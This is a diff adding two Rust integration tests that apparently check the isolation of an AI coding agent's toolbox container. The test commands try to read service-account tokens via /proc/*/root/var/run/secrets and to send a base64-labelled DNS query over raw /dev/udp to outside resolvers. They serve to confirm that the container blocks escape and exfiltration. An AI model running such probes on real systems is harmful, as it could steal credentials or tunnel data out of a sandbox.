@@ -92,6 +92,56 @@ async fn the_agent_container_never_sees_the_worktree_and_holds_only_its_own_toke
 }
 
 #[tokio::test(flavor = "multi_thread")]
+async fn a_command_finds_no_process_or_socket_but_its_own() {
+    let (team, _root, pod) = coder_pod().await;
+    let list = "for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; done";
+    let (_, processes) = sh(&team, &pod, "toolbox", list).await;
+    assert!(processes.contains("toolbox"), "{processes}");
+    for other in ["codebutler-operator", "gateway", "controller", "demo"] {
+        let found = processes.lines().any(|line| line.contains(other) && !line.contains("toolbox"));
+        assert!(!found, "{other} is visible from the toolbox: {processes}");
+    }
+    // Sockets: those of this pod's loopback, and the gateway's port.
+    let listening = "cat /proc/net/tcp /proc/net/tcp6 | awk '$4 == \"0A\" {print $2}'";
+    let (_, listeners) = sh(&team, &pod, "toolbox", listening).await;
+    for listener in listeners.lines() {
+        let known = listener.starts_with("0100007F:") || listener.ends_with(":20FB");
+        assert!(known, "something else listens: {listeners}");
+    }
+    for pid in ["1", "self"] {
+        let (_, out) =
+            sh(&team, &pod, "toolbox", &format!("cat /proc/{pid}/root/var/run/secrets/* 2>&1"))
+                .await;
+        assert!(!out.contains("eyJ"), "{out}");
+    }
+    team.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_command_can_not_tunnel_in_dns() {
+    let (team, _root, pod) = coder_pod().await;
+    // No resolver is configured that answers, and no other one can be reached.
+    let (code, out) =
+        sh(&team, &pod, "toolbox", "timeout 20 getent hosts c2VjcmV0.example.com").await;
+    assert_ne!(code, 0, "a name was resolved: {out}");
+    let mut servers = vec!["8.8.8.8".to_owned(), "1.1.1.1".to_owned(), "10.96.0.10".to_owned()];
+    let (_, configured) = sh(&team, &pod, "toolbox", "cat /etc/resolv.conf").await;
+    let lines = configured.lines().filter_map(|line| line.strip_prefix("nameserver "));
+    servers.extend(lines.map(|server| server.trim().to_owned()));
+    // A question for the address of example.com, and whether anything comes back.
+    let question =
+        r"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01";
+    for server in servers {
+        let line = format!(
+            "exec 3<>/dev/udp/{server}/53 && printf '{question}' >&3 && timeout 2 head -c 12 <&3 2>/dev/null | wc -c"
+        );
+        let (code, out) = sh(&team, &pod, "toolbox", &line).await;
+        assert!(code != 0 || out.lines().next() == Some("0"), "{server} answers: {out}");
+    }
+    team.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
 async fn a_push_is_refused_before_approval_and_to_any_other_ref() {
     let (team, root, pod) = coder_pod().await;
     let branch = team.thread(&root).await.status.unwrap().branch.unwrap();
